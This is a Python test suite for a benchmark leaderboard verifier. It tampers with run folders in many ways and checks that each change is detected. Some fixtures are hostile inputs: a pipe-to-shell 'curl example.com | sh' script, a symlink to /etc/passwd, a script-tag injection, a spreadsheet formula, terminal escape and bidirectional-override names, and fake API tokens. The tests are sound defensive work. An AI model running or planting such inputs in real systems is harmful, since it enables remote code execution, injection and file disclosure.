"""A run folder that was tampered with is refused, by a message that says what is wrong and where."""

import json
import os
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flexqa.leaderboard.verification import Limits, Verification
from flexqa.leaderboard.verify import Against, verify
from flexqa.question import Question
from flexqa.record import RunManifest
from flexqa.rescore import score_folder
from flexqa.store import run_id_of

Spoil = Callable[[Path], None]

SPOILED: dict[str, tuple[Spoil, str, str, str]] = {}
"""name -> what is done, the rule that finds it, where, and a part of the message"""


def spoiled(rule: str, where: str, message: str) -> Callable[[Spoil], Spoil]:
    def add(spoil: Spoil) -> Spoil:
        SPOILED[spoil.__name__] = spoil, rule, where, message
        return spoil

    return add


def edit_json(path: Path, edit: Callable[[dict[str, Any]], object]) -> None:
    data = json.loads(path.read_text())
    edit(data)
    path.write_text(json.dumps(data, sort_keys=True, indent=1, ensure_ascii=False) + "\n")


def edit_line(path: Path, number: int, edit: Callable[[dict[str, Any]], object]) -> None:
    lines = path.read_text().splitlines()
    data = json.loads(lines[number - 1])
    edit(data)
    lines[number - 1] = json.dumps(data, ensure_ascii=False, separators=(",", ":"))
    path.write_text("\n".join(lines) + "\n")


def replace_line(path: Path, number: int, text: str) -> None:
    lines = path.read_text().splitlines()
    lines[number - 1] = text
    path.write_text("\n".join(lines) + "\n")


def in_run(edit: Callable[[dict[str, Any]], object]) -> Spoil:
    return lambda folder: edit_json(folder / "run.json", edit)


@spoiled("score", r"verdicts\.jsonl:\d+", "the raw reply gives")
def a_reply_is_made_right(folder: Path) -> None:
    wrong = next(
        json.loads(v)
        for v in (folder / "verdicts.jsonl").read_text().splitlines()
        if '"score":0.0' in v and '"choice"' not in v
    )
    answers = {q.id: q for q in map(Question.from_json, (folder / "questions.jsonl").read_bytes().splitlines())}
    lines = (folder / "predictions.jsonl").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if wrong["question_id"] in line)
    answer = answers[wrong["question_id"]].answer
    text = ", ".join(answer) if isinstance(answer, tuple) else str(answer)
    edit_line(folder / "predictions.jsonl", number, lambda p: p["reply"].update(text=text))


@spoiled("score", r"scores\.json: overall\.accuracy\.value", "says 0.99, the raw replies give 0.")
def the_accuracy_is_raised(folder: Path) -> None:
    edit_json(folder / "scores.json", lambda s: s["overall"]["accuracy"].update(value=0.99))


@spoiled("score", r"verdicts\.jsonl:3", "method of ")
def a_verdict_is_edited(folder: Path) -> None:
    edit_line(folder / "verdicts.jsonl", 3, lambda v: v.update(method="believe me"))


@spoiled("once", r"predictions\.jsonl", "has no prediction")
def a_prediction_is_left_out(folder: Path) -> None:
    path = folder / "predictions.jsonl"
    path.write_text("".join(path.read_text().splitlines(keepends=True)[1:]))


@spoiled("once", r"predictions\.jsonl:61", "has a prediction before")
def a_prediction_stands_twice(folder: Path) -> None:
    path = folder / "predictions.jsonl"
    text = path.read_text()
    path.write_text(text + text.splitlines(keepends=True)[0])


@spoiled("once", r"predictions\.jsonl:5", "which questions.jsonl does not ask")
def a_prediction_of_another_question(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 5, lambda p: p.update(question_id="action_recognition-0123456789abcdef"))


@spoiled("hash", r"predictions\.jsonl:2: key", "the content gives")
def a_prediction_of_another_run(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 2, lambda p: p.update(key="0" * 32))


@spoiled("hash", r"predictions\.jsonl:2: run_id", "is 'other-run'")
def a_prediction_with_another_runs_id(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 2, lambda p: p.update(run_id="other-run"))


@spoiled("hash", r"questions\.jsonl:4", "was it edited")
def a_question_is_edited(folder: Path) -> None:
    edit_line(folder / "questions.jsonl", 4, lambda q: q.update(subject="S99"))


@spoiled("set", r"questions\.jsonl", "is not in the set")
def a_question_is_edited_with_all_hashes(folder: Path) -> None:
    """Answer, ids, keys and scores fit together: only the set itself tells."""
    manifest = RunManifest.model_validate_json((folder / "run.json").read_bytes())
    lines = (folder / "questions.jsonl").read_bytes().splitlines()
    questions = [Question.from_json(line) for line in lines]
    number, old = next((i, q) for i, q in enumerate(questions) if q.answer == "yes" and q.follows is None)
    new = Question.model_validate({**old.model_dump(exclude={"id"}), "answer": "no"})
    replace_line(folder / "questions.jsonl", number + 1, new.model_dump_json())
    text = (folder / "predictions.jsonl").read_text()
    for was, now in (
        (old.id, new.id),
        (old.content_hash, new.content_hash),
        (manifest.spec.key(old.content_hash), manifest.spec.key(new.content_hash)),
    ):
        text = text.replace(was, now)
    (folder / "predictions.jsonl").write_text(text)
    score_folder(folder)


@spoiled("set", r"questions\.jsonl", "questions of the set are not asked")
def a_hard_question_is_left_out(folder: Path) -> None:
    lines = (folder / "questions.jsonl").read_text().splitlines(keepends=True)
    asked = [Question.from_json(line) for line in lines]
    followed = {q.follows for q in asked}
    number = next(i for i, q in enumerate(asked) if q.id not in followed)
    (folder / "questions.jsonl").write_text("".join(lines[:number] + lines[number + 1 :]))
    predictions = (folder / "predictions.jsonl").read_text().splitlines(keepends=True)
    kept = [p for p in predictions if json.loads(p)["question_id"] != asked[number].id]
    old = RunManifest.model_validate_json((folder / "run.json").read_bytes())
    spec = old.spec.model_copy(update={"questions": old.spec.questions.model_copy(update={"n_questions": 59})})
    new = old.model_copy(update={"spec": spec, "run_id": run_id_of(spec)})
    (folder / "run.json").write_text(new.model_dump_json(indent=1) + "\n")
    (folder / "predictions.jsonl").write_text("".join(kept).replace(old.run_id, new.run_id))
    score_folder(folder)


@spoiled("hash", r"run\.json: run_id", "the spec was edited after the run")
def the_model_is_renamed(folder: Path) -> None:
    in_run(lambda m: m["spec"]["model"].update(name="vllm:Acme/Best-8B"))(folder)


@spoiled("hash", r"predictions\.jsonl:1: key", "the content gives")
def more_frames_are_claimed(folder: Path) -> None:
    in_run(lambda m: m["spec"]["presentation"].update(frames=64))(folder)


@spoiled("set", r"run\.json: spec\.questions\.sha256", "the set has")
def another_set_is_named(folder: Path) -> None:
    in_run(lambda m: m["spec"]["questions"].update(sha256="4" * 64))(folder)


@spoiled("set", r"questions\.jsonl", "holds 60 sound questions, run.json names 61")
def the_number_of_questions_is_edited(folder: Path) -> None:
    in_run(lambda m: m["spec"]["questions"].update(n_questions=61))(folder)


@spoiled("prompt", r"run\.json: spec\.prompts_sha256", "the templates here hash to")
def the_templates_are_others(folder: Path) -> None:
    in_run(lambda m: m["spec"].update(prompts_sha256="5" * 64))(folder)


@spoiled("prompt", r"predictions\.jsonl:\d+: prompt_sha256", "other words or other evidence were sent")
def a_prompt_was_another(folder: Path) -> None:
    lines = (folder / "predictions.jsonl").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if '"modality":"video"' in line and "emg" not in line)
    edit_line(folder / "predictions.jsonl", number, lambda p: p.update(prompt_sha256="6" * 64))


@spoiled("media", r"predictions\.jsonl:\d+: media", "which .* does not show")
def the_clip_was_another(folder: Path) -> None:
    lines = (folder / "predictions.jsonl").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if '"media":[{' in line)
    edit_line(folder / "predictions.jsonl", number, lambda p: p["media"][0].update(recording="A01/999"))


@spoiled("figures", r"predictions\.jsonl:1: decode_s", "-1.0 seconds cannot be")
def time_runs_backwards(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 1, lambda p: p["reply"]["timing"].update(decode_s=-1.0))


@spoiled("figures", r"predictions\.jsonl:1: cached_tokens", "9 is more than the 5 input tokens")
def more_tokens_are_cached_than_sent(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 1, lambda p: p["reply"]["usage"].update(input_tokens=5, cached_tokens=9))


@spoiled("figures", r"run\.json: created_at", "is yet to come")
def it_was_made_in_the_future(folder: Path) -> None:
    in_run(lambda m: m.update(created_at="2999-01-01T00:00:00+00:00"))(folder)


@spoiled("hash", r"predictions\.jsonl:1: status", "that of its outcome ok")
def a_status_is_edited(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 1, lambda p: p.update(status="truncated"))


@spoiled("hash", r"run\.json: control_of", "the control None")
def a_control_of_nothing(folder: Path) -> None:
    in_run(lambda m: m.update(control_of="a-run"))(folder)


@spoiled("path", r"'scores\.json'", "a symbolic link")
def a_link_to_a_file_elsewhere(folder: Path) -> None:
    (folder / "scores.json").unlink()
    (folder / "scores.json").symlink_to("/etc/passwd")


@spoiled("path", r"'predictions\.jsonl'", "a symbolic link")
def the_predictions_are_a_link(folder: Path) -> None:
    (folder / "predictions.jsonl").rename(folder.parent / "elsewhere")
    (folder / "predictions.jsonl").symlink_to(folder.parent / "elsewhere")


@spoiled("path", r"'questions\.jsonl'", "no regular file")
def a_pipe_that_never_ends(folder: Path) -> None:
    (folder / "questions.jsonl").unlink()
    os.mkfifo(folder / "questions.jsonl")


@spoiled("path", "'more'", "a folder")
def a_folder_within(folder: Path) -> None:
    (folder / "more").mkdir()


@spoiled("name", "'install.sh'", "is no file of a run")
def a_file_that_does_not_belong(folder: Path) -> None:
    (folder / "install.sh").write_text("curl example.com | sh\n")


@spoiled("name", r"'\\x1b\[2J'", "is no file of a run")
def a_file_name_that_clears_the_screen(folder: Path) -> None:
    (folder / "\x1b[2J").write_text("")


@spoiled("name", r"run\.json: spec\.model\.name", "holds < or >")
def a_script_in_the_name(folder: Path) -> None:
    in_run(lambda m: m["spec"]["model"].update(name="vllm:<script>alert(1)</script>"))(folder)


@spoiled("name", r"run\.json: spec\.model\.name", r"'vllm:good\\u202elive' holds control or direction")
def a_name_that_reads_backwards(folder: Path) -> None:
    in_run(lambda m: m["spec"]["model"].update(name="vllm:good\u202elive"))(folder)


@spoiled("name", r"run\.json: spec\.model", "is no name of a model")
def a_formula_in_the_name(folder: Path) -> None:
    in_run(lambda m: m["spec"]["model"].update(name="=HYPERLINK(1)"))(folder)


@spoiled("secret", r"run\.json:\d+", "a Hugging Face token")
def a_token_in_the_options(folder: Path) -> None:
    in_run(lambda m: m["spec"].update(adapter_options={"auth": "hf_" + "aB3" * 11}))(folder)


@spoiled("secret", r"predictions\.jsonl:7", "an OpenAI-style API key")
def a_key_in_a_reply(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 7, lambda p: p["reply"].update(text="sk-proj-" + "x1Y2" * 8))


@spoiled("json", r"predictions\.jsonl:3", "holds NaN")
def a_figure_is_no_number(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 3, lambda p: p["reply"]["timing"].update(total_s=float("nan")))


@spoiled("json", r"predictions\.jsonl:3", "holds the number '1e999'")
def a_figure_is_endless(folder: Path) -> None:
    line = (folder / "predictions.jsonl").read_text().splitlines()[2]
    replace_line(folder / "predictions.jsonl", 3, re.sub(r'"total_s":null', '"total_s":1e999', line))


@spoiled("json", r"predictions\.jsonl:3", "has the key 'text' twice")
def a_reply_is_there_twice(folder: Path) -> None:
    line = (folder / "predictions.jsonl").read_text().splitlines()[2]
    replace_line(folder / "predictions.jsonl", 3, line.replace('"text":', '"text":"A","text":', 1))


@spoiled("json", r"run\.json", "is nested deeper than 24 levels")
def brackets_without_end(folder: Path) -> None:
    text = (folder / "run.json").read_text()
    deep = "[" * 200_000 + "]" * 200_000
    (folder / "run.json").write_text(text.replace('"adapter": {', f'"adapter": {{"x": {deep},', 1))


@spoiled("json", r"run\.json", "is nested deeper than 24 levels")
def brackets_that_json_would_read(folder: Path) -> None:
    in_run(lambda m: m["adapter"].update(x=json.loads("[" * 60 + "]" * 60)))(folder)


@spoiled("json", r"run\.json", "half of a surrogate pair")
def half_a_character(folder: Path) -> None:
    text = (folder / "run.json").read_text()
    (folder / "run.json").write_text(text.replace('"adapter": {', '"adapter": {"x": "\\ud800",', 1))


@spoiled("json", r"predictions\.jsonl:60", "is torn")
def the_last_line_is_torn(folder: Path) -> None:
    path = folder / "predictions.jsonl"
    path.write_bytes(path.read_bytes()[:-1])


@spoiled("json", r"predictions\.jsonl:9", "is not UTF-8")
def bytes_that_are_no_text(folder: Path) -> None:
    lines = (folder / "predictions.jsonl").read_bytes().split(b"\n")
    lines[8] = lines[8].replace(b'"text":"', b'"text":"\xff\xfe')
    (folder / "predictions.jsonl").write_bytes(b"\n".join(lines))


@spoiled("size", r"predictions\.jsonl:1: reply", "has 1000000 characters")
def a_reply_of_a_million_characters(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 1, lambda p: p["reply"].update(text="A or B? " * 125_000))


@spoiled("schema", r"predictions\.jsonl:2", "verified: Extra inputs are not permitted")
def a_field_that_there_is_not(folder: Path) -> None:
    edit_line(folder / "predictions.jsonl", 2, lambda p: p.update(verified=True))


@spoiled("name", r"run\.json", "is missing")
def the_manifest_is_missing(folder: Path) -> None:
    (folder / "run.json").unlink()


def test_an_honest_run_passes(submitted: Path, question_file: Path, tree: Path) -> None:
    found = verify(submitted, Against(questions=question_file, data=tree))
    assert found.passed
    assert found.findings == ()
    assert found.n_questions == found.prompts_recomputed == 60
    scores = json.loads((submitted / "scores.json").read_text())
    assert found.accuracy == scores["overall"]["accuracy"]["value"]
    alone = verify(submitted)
    assert alone.passed
    assert {f.rule for f in alone.findings} == {"set", "prompt"}
    assert 0 < alone.prompts_recomputed < 60


@pytest.mark.parametrize("name", SPOILED)
def test_what_was_tampered_with_is_found(name: str, submitted: Path, question_file: Path) -> None:
    spoil, rule, where, message = SPOILED[name]
    spoil(submitted)
    found = verify(submitted, Against(questions=question_file))
    assert not found.passed
    fitting = [f for f in found.findings if f.fatal and f.rule == rule and re.fullmatch(where, f.where)]
    assert any(re.search(message, f.message) for f in fitting), told(found)
    assert all(f.message.isprintable() and f.where.isprintable() and len(f.message) < 700 for f in found.findings)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("sha256", "7" * 64, "sha256 of .* the recordings give"),
        ("frame_times_s", [0.0, 0.1], "frame_times_s of .* the recordings give"),
        ("width", 4096, "width of .* the recordings give"),
    ],
)
def test_with_recordings_frames_are_made_again(
    field: str, value: object, message: str, submitted: Path, tree: Path
) -> None:
    lines = (submitted / "predictions.jsonl").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if '"modality":"video"' in line)
    edit_line(submitted / "predictions.jsonl", number, lambda p: p["media"][0].update({field: value}))
    found = verify(submitted, Against(data=tree))
    assert [f.where for f in found.findings if f.rule == "media"] == [f"predictions.jsonl:{number}: media"]
    assert re.search(message, next(f.message for f in found.findings if f.rule == "media"))


def test_with_recordings_a_traces_prompt_is_made_again(submitted: Path, tree: Path) -> None:
    lines = (submitted / "predictions.jsonl").read_text().splitlines()
    number = next(i for i, line in enumerate(lines, 1) if '"modality":"emg"' in line)
    edit_line(submitted / "predictions.jsonl", number, lambda p: p.update(prompt_sha256="8" * 64))
    assert verify(submitted).passed
    found = verify(submitted, Against(data=tree))
    assert [(f.rule, f.where) for f in found.findings if f.fatal] == [
        ("prompt", f"predictions.jsonl:{number}: prompt_sha256")
    ]


def test_many_faults_are_counted_and_few_told(submitted: Path) -> None:
    path = submitted / "predictions.jsonl"
    path.write_text(re.sub(r'"key":"\w+"', '"key":"0"', path.read_text()))
    found = verify(submitted)
    assert sum(f.rule == "hash" for f in found.findings) == 20
    assert found.untold == {"hash": 40}


def test_a_folder_of_too_many_or_too_large_files(submitted: Path) -> None:
    few = verify(submitted, Against(limits=Limits(files=3)))
    small = verify(submitted, Against(limits=Limits(file_bytes=1000)))
    total = verify(submitted, Against(limits=Limits(total_bytes=10_000)))
    short = verify(submitted, Against(limits=Limits(line_bytes=100)))
    for found in (few, small, total, short):
        assert not found.passed
        assert any(f.rule == "size" for f in found.findings), told(found)


def told(found: Verification) -> str:
    return "\n".join(f"{f.rule} | {f.where} | {f.message}" for f in found.findings)


@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.sampled_from(["run.json", "questions.jsonl", "predictions.jsonl", "scores.json", "verdicts.jsonl"]),
    st.floats(0, 1, exclude_max=True),
    st.binary(max_size=30)
    | st.sampled_from([b'"', b"{", b"]", b"null", b"-", b"\n", b"\\u0000", b"1e308", b"[" * 99]),
    st.integers(0, 30),
)
def test_noise_anywhere_is_a_finding_and_never_a_crash(
    pristine: Path, tmp_path: Path, name: str, at: float, noise: bytes, cut: int
) -> None:
    folder = tmp_path / "noisy"
    shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(pristine, folder)
    whole = (folder / name).read_bytes()
    place = int(at * len(whole))
    (folder / name).write_bytes(whole[:place] + noise + whole[place + cut :])
    found = verify(folder)
    if (folder / name).read_bytes() == whole:
        assert found.passed
    elif name in ("scores.json", "verdicts.jsonl"):
        assert not found.passed
